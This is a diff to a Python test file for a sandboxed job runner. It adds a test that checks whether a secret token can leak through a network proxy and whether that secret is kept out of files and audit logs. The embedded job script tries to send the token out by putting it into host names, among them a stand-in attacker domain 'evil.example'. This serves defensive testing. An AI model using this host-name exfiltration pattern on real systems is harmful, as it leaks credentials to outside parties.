@@ -10,6 +10,7 @@ import json
 import os
 import pty
 import secrets
+import shutil
 import signal
 import socket
 import subprocess
@@ -29,6 +30,7 @@ from machine import (
     wait_until,
     walkable,
 )
+from node_network import NodeNetwork
 
 # It prints the value whole and in two pieces, writes it into a file and into a file's name, gives
 # it as an output, as a tensor, as progress and as a metric's name, and ends with it.
@@ -163,6 +165,71 @@ def test_a_secret_is_found_nowhere(own: OneMachine) -> None:
         assert files_with(directory, encodings) == []
     # Nothing is hidden from the search: a value that was not secret is there.
     assert files_with(own.data, [b"the token is ***"])
+
+
+ASK_THE_PROXY = """
+import os, socket
+token = os.environ["TOKEN"]
+def ask(line):
+    with socket.create_connection(("127.0.0.1", 3128), 10) as proxy:
+        proxy.sendall((line + " HTTP/1.1\\r\\n\\r\\n").encode())
+        return proxy.recv(4096)
+told = [
+    ask(f"GET http://{token}.example.com/"),
+    ask(f"CONNECT {token}.evil.example:443"),
+    ask(f"CONNECT {token.upper()}:443"),
+    ask(f"CONNECT {token}"),
+    ask(f"GET https://{token}/"),
+    ask("CONNECT " + "x" * 85 + token),
+]
+assert all(one.startswith(b"HTTP/1.1 40") for one in told)
+print("asked", len(told))
+"""
+
+
+@pytest.fixture(scope="module")
+def networked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[NodeNetwork]:
+    directory = tmp_path_factory.mktemp("networked")
+    walkable(directory)
+    network = NodeNetwork(directory, 'network: ["192.0.2.1:80"]\nindex_url: none\n')
+    yield network
+    network.stop()
+
+
+@pytest.mark.parametrize("level", ["standard", "high"])
+def test_a_secret_asked_for_as_a_host_is_recorded_nowhere(
+    networked: NodeNetwork, level: str
+) -> None:
+    if level == "high" and shutil.which("runsc") is None:
+        pytest.skip("needs runsc: apt-get install runsc")
+    value = "Tok3n-" + secrets.token_hex(20) + "-Zz"
+    with networked.client() as client:
+        client.set_secret("TOKEN", value)
+        job = client.create_job(
+            ASK_THE_PROXY,
+            secrets=["TOKEN"],
+            network={"allow": ["192.0.2.1:80"]},
+            import_policy="off",
+            security_level=level,
+        )
+        job.execute()
+        assert job.logs == "asked 6\n"
+    node = networked.directory / "node"
+    wait_until(lambda: not list((node / "attempts").iterdir()), 30, "it is shipped")
+    forms = [value, value.lower(), value.upper(), value[:8], value[:8].lower(), value[-12:].lower()]
+    assert files_with(networked.directory, [form.encode() for form in forms]) == []
+    [log] = (node / "audit").glob("*.jsonl")
+    records = [json.loads(line) for line in log.read_text().splitlines()]
+    [record] = [record for record in records if record.get("job") == job.id]
+    connections = record["network"]["connections"]
+    assert [one["target"] for one in connections][:3] == [
+        "***.example.com:80",
+        "***.evil.example:443",
+        "***:443",
+    ]
+    assert all(one["verdict"] == "refused" and one["reason"] for one in connections)
+    assert all(one["time"] and one["bytes_sent"] == 0 for one in connections)
+    assert '"target":"***.evil.example:443"' in networked.log_of_node()
 
 
 def test_the_commands_take_a_value_from_input_and_show_none(own: OneMachine) -> None:
